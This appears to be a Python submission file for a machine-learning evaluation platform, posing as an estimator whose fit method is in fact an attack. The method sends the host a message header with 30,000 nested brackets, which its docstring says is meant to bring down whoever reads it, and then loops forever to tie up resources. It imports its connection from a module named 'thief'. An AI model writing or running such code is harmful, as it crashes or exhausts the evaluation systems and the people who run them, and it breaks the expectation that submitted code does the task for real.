import os
import sys

sys.path.insert(0, os.path.dirname(__file__))
from thief import frame, platform_connection  # noqa: E402


class Forger:
    def fit(self, X, y):
        """A message of lists in lists, to bring down whoever reads it."""
        header = b'{"kind": ' + b'[' * 30_000 + b']' * 30_000 + b'}'
        platform_connection().sendall(len(header).to_bytes(4, 'big') + header)
        while True:
            pass


def get_estimator():
    return Forger()
